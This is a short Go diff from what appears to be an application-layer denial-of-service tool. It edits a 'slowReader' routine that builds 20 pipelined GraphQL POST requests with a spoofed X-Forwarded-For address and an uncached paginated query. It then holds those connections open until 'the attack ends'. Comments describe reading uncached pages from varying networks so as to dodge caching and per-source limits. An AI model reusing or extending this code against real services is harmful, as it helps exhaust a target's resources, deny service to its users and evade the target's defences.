@@ -6,7 +6,6 @@ import (
 	"net"
 	"strings"
 	"sync"
-	"time"
 )
 
 // pacedSockets is how many connections of one address hold bodies and answers.
@@ -30,7 +29,7 @@ func slowReader(t *target, c *client) {
 	body := `{"query":"{ properties(language: NL, page: {first: 50}) { nodes { number title description photos { url } } } }"}`
 	one := fmt.Sprintf("POST /graphql HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 203.0.113.78\r\nCookie: session=a\r\n"+
 		"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
-	t.paced(c, strings.Repeat(one, 20), func(net.Conn) error { time.Sleep(time.Minute); return nil })
+	t.paced(c, strings.Repeat(one, 20), func(net.Conn) error { <-c.ctx.Done(); return nil })
 }
 
 // paced holds connections until the attack ends, and meanwhile reads pages that are not cached, each from another network.
